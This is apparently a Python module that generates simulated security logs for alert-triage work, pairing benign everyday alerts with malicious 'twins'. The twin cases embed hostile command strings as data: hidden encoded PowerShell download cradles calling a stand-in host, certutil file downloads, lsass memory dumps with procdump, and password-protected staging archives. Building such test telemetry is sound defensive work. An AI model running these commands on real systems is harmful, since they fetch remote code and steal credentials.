"""Everyday work that raises alerts and is harmless, and its twins: the same but for the one fact that matters.

Told with the words of `scene`, over any seed: hosts, accounts, tools, hours and comments are drawn. A teller writes the
fortnight of habit behind the alert, earlier closings where the case has one, and the alert itself.
"""

import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from ...tools.languages.vocabulary import EventClass
from .scene import FALCON, SENTINEL, SENTINELONE, Host, Process, Scene
from .stories_cloud import audit, signin
from .stories_endpoint import OFFICE, POWERSHELL, SERVICES, SYSTEM, encoded, install_service

EXPLORER = Process("explorer.exe", "C:\\Windows\\explorer.exe", 3300, "C:\\Windows\\explorer.exe")
DAYS = 13


@dataclass(frozen=True)
class Stage:
    """Where one case plays: the scene, what is drawn for it, and whether it is the twin."""

    scene: Scene
    world: Mapping[str, Any]
    draw: random.Random
    name: str
    twin: bool
    station: Host
    """A workstation of its own."""
    other: Host
    """Another one, for twins that play elsewhere."""
    server: Host

    def days(self, hour: float) -> list[datetime]:
        """The same hour on each of the days before the last, oldest first."""
        return [self.scene.at(days=day, hours=hour) for day in range(DAYS, 0, -1)]

    def alert(
        self, when: datetime, host: Host, title: str, severity: str, process: Process, user: str, *, closed: str = "",
        technique: str = "T1059.001", tactic: str = "Execution",
    ) -> None:  # fmt: skip
        """An alert; `closed` makes it an old one that a person closed as a false positive with that comment."""
        sensor = SENTINELONE if SENTINELONE in host.sensors else FALCON
        label = f"@{self.name}-closed" if closed else f"@{self.name}"
        self.scene.alert(
            when, host, title, severity, technique, tactic, process, user, sensor=sensor, story=self.name, uid=label,
            about=title, verdict="False Positive" if closed else "", comment=closed,
        )  # fmt: skip

    def cloud_alert(self, when: datetime, title: str, severity: str, user: str, tactic: str) -> None:
        """An alert of the identity provider on an account."""
        attributes = {
            "finding.uid": f"@{self.name}", "finding.title": title, "finding.description": title, "severity": severity,
            "attacks.tactic": tactic, "user.name": f"{user}@{self.scene.domain}",
        }  # fmt: skip
        self.scene.note(
            EventClass.FINDING, when, None, attributes, self.name, sensors={SENTINEL},
            product="Microsoft Entra ID Protection",
        )  # fmt: skip


def build_agent(stage: Stage) -> None:
    """A build account runs an encoded step at every build, explained before. Twin: Word starts it on a colleague's PC."""
    scene, draw, host = stage.scene, stage.draw, stage.station
    account, comment = draw.choice(("svc-build", "svc-idm")), draw.choice(("build agent, expected", "CI step, fine"))
    folder, worker = draw.choice((("D:\\agent\\_work", "Agent.Worker.exe"), ("C:\\ci\\ws", "jenkins-agent.exe")))
    script = f"Set-Location {folder}; ./build.ps1 -Configuration {draw.choice(('Release', 'Nightly'))}"
    command = f"powershell.exe -NoLogo -NonInteractive -enc {encoded(script)}"

    def run(when: datetime, parent: Process, on: Host, user: str) -> Process:
        shell = scene.program("powershell.exe", POWERSHELL, command, parent)
        scene.launch(when, on, shell, user, stage.name)
        return shell

    agent = scene.program(worker, f"D:\\agent\\bin\\{worker}", f"D:\\agent\\bin\\{worker} run", SERVICES)
    scene.launch(scene.at(days=DAYS, hours=9), host, agent, account, stage.name)
    runs = [run(when, agent, host, account) for when in stage.days(5)]
    title = "Encoded PowerShell Command"
    stage.alert(scene.at(days=draw.randint(16, 40)), host, title, "Medium", runs[0], account, closed=comment)
    when = scene.at(hours=4, minutes=draw.randint(0, 50))
    if not stage.twin:
        stage.alert(when + timedelta(seconds=20), host, title, "Medium", run(when, agent, host, account), account)
        return
    word = scene.program(
        "WINWORD.EXE", OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "C:\\Temp\\offer.docm"', EXPLORER
    )
    scene.launch(when - timedelta(seconds=15), stage.other, word, stage.other.user, stage.name)
    shell = run(when, word, stage.other, stage.other.user)
    stage.alert(when + timedelta(seconds=20), stage.other, title, "Medium", shell, stage.other.user)


def management_script(stage: Stage) -> None:
    """The software distribution runs a script on every PC. Twin: the same closing, another ending of the command."""
    scene, draw, host = stage.scene, stage.draw, stage.station
    agent_name = draw.choice(("CcmExec.exe", "IntuneManagementExtension.exe", "PDQDeployRunner.exe"))
    agent = scene.program(agent_name, f"C:\\Program Files\\Management\\{agent_name}", agent_name, SERVICES)
    script = draw.choice(("inventory.ps1", "compliance_check.ps1", "drivers.ps1"))
    command = f'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\Management\\{script}" -Ring 2'
    title = "Suspicious PowerShell Execution"
    scene.launch(scene.at(days=DAYS, hours=10), host, agent, "SYSTEM", stage.name)
    for when in stage.days(6):
        scene.launch(when, host, scene.program("powershell.exe", POWERSHELL, command, agent), "SYSTEM", stage.name)
    old = scene.program("powershell.exe", POWERSHELL, command, agent)
    closed = draw.choice(("software distribution", "management agent, known", "MDM script"))
    stage.alert(scene.at(days=draw.randint(15, 30)), host, title, "Medium", old, "SYSTEM", closed=closed)
    if stage.twin:
        address = f"203.0.113.{draw.randint(210, 250)}"
        command += f"; IEX (New-Object Net.WebClient).DownloadString('http://{address}/a.ps1')"
    shell = scene.program("powershell.exe", POWERSHELL, command, agent)
    when = scene.at(hours=draw.randint(2, 9))
    scene.launch(when, host, shell, "SYSTEM", stage.name)
    stage.alert(when + timedelta(seconds=12), host, title, "Medium", shell, "SYSTEM")


def backup_job(stage: Stage) -> None:
    """The backup packs and checks shares at night. Twin: another account does it from a temporary folder."""
    scene, draw, host = stage.scene, stage.draw, stage.server
    packer = draw.choice(("7z.exe", "rar.exe"))
    user, source = draw.choice(("svc-backup", "svc-archive")), draw.choice(("D:\\Shares", "E:\\Data", "D:\\Projects"))
    program = "C:\\Program Files\\Backup\\backupagent.exe"
    agent = scene.program("backupagent.exe", program, "backupagent.exe -job nightly", SERVICES)
    scene.launch(scene.at(days=DAYS, hours=13), host, agent, user, stage.name)
    title, hour = "Data Archived for Collection", draw.randint(9, 12)

    def pack(when: datetime, account: str, parent: Process, target: str) -> Process:
        path = f"C:\\Program Files\\Packer\\{packer}"
        run = scene.program(packer, path, f'"{path}" a {target} {source}', parent)
        scene.launch(when, host, run, account, stage.name)
        return run

    runs = [pack(when, user, agent, f"D:\\Staging\\set_{when:%Y%m%d}.7z") for when in stage.days(hour)]
    comment = draw.choice(("nightly backup", "backup job, see runbook", "expected: backup"))
    about = {"technique": "T1560.001", "tactic": "Collection"}
    stage.alert(scene.at(days=draw.randint(14, 35)), host, title, "Medium", runs[0], user, closed=comment, **about)
    when = scene.at(hours=hour)
    if stage.twin:
        shell = scene.program("cmd.exe", command="cmd.exe", parent=EXPLORER)
        scene.launch(when - timedelta(seconds=30), host, shell, stage.other.user, stage.name)
        run = pack(when, stage.other.user, shell, f"C:\\Windows\\Temp\\{draw.choice(('a', 'x1', 'out'))}.7z -pSecret1")
        stage.alert(when + timedelta(seconds=30), host, title, "Medium", run, stage.other.user, **about)
    else:
        run = pack(when, user, agent, f"D:\\Staging\\set_{when:%Y%m%d}.7z")
        stage.alert(when + timedelta(seconds=30), host, title, "Medium", run, user, **about)


def patching(stage: Stage) -> None:
    """An administrator installs updates by a remote service. Twin: a colleague's account does it from her own PC."""
    scene, draw, server = stage.scene, stage.draw, stage.server
    admin, user = (stage.other, stage.other.user) if stage.twin else (scene.hosts["ADM-01"], "j.okafor")
    change, kb = f"CHG-{draw.randint(5000, 9999)}", f"kb50{draw.randint(10000, 99999)}"
    when = scene.at(hours=draw.randint(14, 22), minutes=draw.randint(0, 50))
    command = f"C:\\Tools\\PsExec64.exe \\\\{server.name} C:\\Patches\\{change}\\install.cmd"
    client = scene.program("PsExec64.exe", "C:\\Tools\\PsExec64.exe", command, scene.program("cmd.exe"))
    scene.launch(when - timedelta(seconds=6), admin, client, user, stage.name)
    scene.connect(when - timedelta(seconds=4), admin, SYSTEM, server.ip, 445, "", stage.name)
    scene.accept(when - timedelta(seconds=3), server, admin.ip, 445, stage.name)
    scene.logon(when, server, user, kind="Network", source=admin.ip, story=stage.name)
    service = install_service(scene, when + timedelta(seconds=1), server, stage.name)
    if stage.twin:
        dumped = f'"C:\\Windows\\Temp\\p.exe" -accepteula -ma lsass.exe C:\\Windows\\Temp\\{draw.randint(10, 99)}.dmp'
        run = scene.program("procdump.exe", "C:\\Windows\\Temp\\p.exe", f"procdump.exe {dumped}", service)
    else:
        shell = scene.program("cmd.exe", command=f'cmd.exe /c "C:\\Patches\\{change}\\install.cmd"', parent=service)
        scene.launch(when + timedelta(seconds=4), server, shell, user, stage.name)
        package = f"C:\\Patches\\{change}\\{kb}.msu"
        run = scene.program("wusa.exe", command=f"wusa.exe {package} /quiet /norestart", parent=shell)
    scene.launch(when + timedelta(seconds=6), server, run, user, stage.name)
    stage.alert(
        when + timedelta(seconds=9), server, "Remote Execution Service Installed", "Medium", service, "SYSTEM",
        technique="T1569.002", tactic="Execution",
    )  # fmt: skip


def help_desk(stage: Stage) -> None:
    """The help desk looks at a colleague's screen. Twin: the tool comes by mail, and a script runs under it."""
    scene, draw, host = stage.scene, stage.draw, stage.station
    tool = draw.choice(("AnyDesk.exe", "TeamViewer.exe", "ScreenConnect.ClientService.exe", "QuickAssist.exe"))
    path = f"C:\\Program Files (x86)\\Support\\{tool}"
    title = "Remote Access Tool Started"
    about = {"technique": "T1219", "tactic": "Command and Control"}
    old = scene.program(tool, path, f'"{path}"', EXPLORER)
    comment = draw.choice(("help desk session", "support, ticket closed", "user called the help desk"))
    stage.alert(scene.at(days=draw.randint(14, 40)), host, title, "Medium", old, host.user, closed=comment, **about)
    when = scene.at(hours=draw.randint(3, 30))
    if stage.twin:
        outlook = scene.program("OUTLOOK.EXE", OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"', EXPLORER)
        scene.launch(when - timedelta(seconds=40), host, outlook, host.user, stage.name)
        path = f"C:\\Users\\{host.user}\\Downloads\\{tool}"
        run = scene.program(tool, path, f'"{path}" --silent --with-password', outlook)
    else:
        run = scene.program(tool, path, f'"{path}"', EXPLORER)
    scene.launch(when, host, run, host.user, stage.name)
    address = f"198.51.100.{draw.randint(90, 120)}"
    scene.connect(when + timedelta(seconds=2), host, run, address, 443, host.user, stage.name)
    if stage.twin:
        shell = scene.program(
            "powershell.exe", POWERSHELL, f"powershell.exe -w hidden -enc {encoded(_stager(draw))}", run
        )
        scene.launch(when + timedelta(minutes=2), host, shell, host.user, stage.name)
    stage.alert(when + timedelta(seconds=5), host, title, "Medium", run, host.user, **about)


def updater(stage: Stage) -> None:
    """A vendor's updater registers its task. Twin: the task runs a hidden script out of the user's profile."""
    scene, draw, host = stage.scene, stage.draw, stage.station
    vendor = draw.choice(("Contoso", "Fabrikam", "Northwind"))
    setup = scene.program(
        f"{vendor}Setup.exe", f"C:\\Program Files\\{vendor}\\Update\\{vendor}Setup.exe", parent=SERVICES
    )
    when = scene.at(hours=draw.randint(2, 40))
    action = f"C:\\Program Files\\{vendor}\\Update\\{vendor}Update.exe /ua"
    if stage.twin:
        action = f"powershell.exe -w hidden -enc {encoded(_stager(draw))}"
    command = f'schtasks.exe /create /tn "{vendor} Update" /sc daily /st 10:{draw.randint(10, 59)} /tr "{action}"'
    task = scene.program("schtasks.exe", command=command, parent=setup)
    scene.launch(when - timedelta(seconds=8), host, setup, "SYSTEM", stage.name)
    scene.launch(when, host, task, "SYSTEM", stage.name)
    stage.alert(
        when + timedelta(seconds=6), host, "Scheduled Task Created", "Medium", task, "SYSTEM",
        technique="T1053.005", tactic="Persistence",
    )  # fmt: skip


def certificates(stage: Stage) -> None:
    """An administrator checks a file's hash. Twin: the same program fetches a file from an address never seen."""
    scene, draw, host = stage.scene, stage.draw, stage.station
    name = draw.choice(("setup.msi", "image.iso", "driver.zip"))
    command = f"certutil.exe -hashfile C:\\Install\\{name} SHA256"
    if stage.twin:
        source = f"http://203.0.113.{draw.randint(210, 250)}/{name}"
        command = f"certutil.exe -urlcache -split -f {source} C:\\Users\\Public\\{name}"
    shell = scene.program("cmd.exe", command="cmd.exe", parent=EXPLORER)
    tool = scene.program("certutil.exe", command=command, parent=shell)
    when = scene.at(hours=draw.randint(2, 60))
    scene.launch(when - timedelta(seconds=20), host, shell, host.user, stage.name)
    scene.launch(when, host, tool, host.user, stage.name)
    stage.alert(
        when + timedelta(seconds=6), host, "Certutil Used From a Shell", "Medium", tool, host.user,
        technique="T1140", tactic="Defense Evasion",
    )  # fmt: skip


def travel(stage: Stage) -> None:
    """Someone signs in at home and through the company's VPN. Twin: the second address was never seen."""
    scene, draw, user = stage.scene, stage.draw, stage.station.user
    home, vpn = f"198.51.100.{draw.randint(130, 190)}", stage.world["external"]["vpn"]
    city = draw.choice(("Lyon", "Porto", "Graz", "Turin"))
    hour = draw.randint(4, 9)
    for when in stage.days(hour):
        signin(scene, when, user, home, city, "FR", story=stage.name)
        signin(scene, when + timedelta(minutes=35), user, vpn, "Frankfurt", "DE", story=stage.name)
    when = scene.at(hours=hour)
    signin(scene, when, user, home, city, "FR", story=stage.name)
    address, where = (f"192.0.2.{draw.randint(150, 200)}", "Bucharest") if stage.twin else (vpn, "Frankfurt")
    signin(scene, when + timedelta(minutes=35), user, address, where, "RO" if stage.twin else "DE", story=stage.name)
    stage.cloud_alert(when + timedelta(minutes=36), "Impossible travel activity", "Medium", user, "InitialAccess")


def new_phone(stage: Stage) -> None:
    """A colleague registers a new phone. Twin: it is registered from an address never seen."""
    scene, draw, user = stage.scene, stage.draw, stage.station.user
    vpn = stage.world["external"]["vpn"]
    for when in stage.days(7):
        signin(scene, when, user, vpn, "Hamburg", "DE", story=stage.name)
    when = scene.at(hours=draw.randint(3, 6), minutes=20)
    address = f"192.0.2.{draw.randint(150, 200)}" if stage.twin else vpn
    city, country = ("Minsk", "BY") if stage.twin else ("Hamburg", "DE")
    signin(scene, when - timedelta(minutes=6), user, address, city, country, story=stage.name)
    audit(
        scene, when, "User registered security info", "UserManagement", user, user, address, stage.name,
        detail="User registered Authenticator App with Notification and Code",
    )  # fmt: skip
    stage.cloud_alert(
        when + timedelta(minutes=1), "New authentication method registered", "Medium", user, "Persistence"
    )


def password_reset(stage: Stage) -> None:
    """The help desk resets a password. Twin: the account comes in from an address never seen right after."""
    scene, draw, user = stage.scene, stage.draw, stage.station.user
    vpn = stage.world["external"]["vpn"]
    for when in stage.days(8):
        signin(scene, when, user, vpn, "Hamburg", "DE", story=stage.name)
    when = scene.at(hours=draw.randint(3, 6))
    audit(
        scene, when, "Reset user password", "UserManagement", "p.novak", user, vpn, stage.name,
        detail=draw.choice(("help desk", "user forgot the password")),
    )  # fmt: skip
    address = f"192.0.2.{draw.randint(150, 200)}" if stage.twin else vpn
    city, country = ("Minsk", "BY") if stage.twin else ("Hamburg", "DE")
    signin(scene, when + timedelta(minutes=7), user, address, city, country, story=stage.name)
    stage.cloud_alert(when + timedelta(minutes=9), "Password reset for a user", "Low", user, "Persistence")


def _stager(draw: random.Random) -> str:
    address = f"203.0.113.{draw.randint(210, 250)}"
    return f"IEX (New-Object Net.WebClient).DownloadString('http://{address}/{draw.randint(1, 99)}')"


Teller = Callable[[Stage], None]
TELLERS: Mapping[str, Teller] = {
    "build-agent": build_agent,
    "management-script": management_script,
    "backup-job": backup_job,
    "patching": patching,
    "help-desk": help_desk,
    "updater": updater,
    "certificates": certificates,
    "travel": travel,
    "new-phone": new_phone,
    "password-reset": password_reset,
}
"""Every kind of case, each of which raises one alert of its own name."""


def stories(seed: int, *, twins: bool) -> list[Callable[[Scene, Mapping[str, Any]], None]]:
    """One story for each kind, on hosts of its own.

    Args:
        seed: What is drawn depends on it.
        twins: Tell the twins instead.
    """
    return [_story(name, number, seed, twins) for number, name in enumerate(TELLERS)]


def _story(name: str, number: int, seed: int, twins: bool) -> Callable[[Scene, Mapping[str, Any]], None]:
    def tell(scene: Scene, world: Mapping[str, Any]) -> None:
        taken = {person["host"] for person in world["people"].values()}
        draw = random.Random(f"everyday-{seed}-{name}")
        stations = [host for host in scene.hosts.values() if host.name.startswith("WS-") and host.name not in taken]
        servers = [host for host in scene.hosts.values() if host.product == "Server" and not host.linux]
        random.Random(f"everyday-{seed}").shuffle(stations)
        station, other = stations[2 * number : 2 * number + 2]
        stage = Stage(scene, world, draw, name, twins, station, other, servers[number % len(servers)])
        TELLERS[name](stage)

    return tell
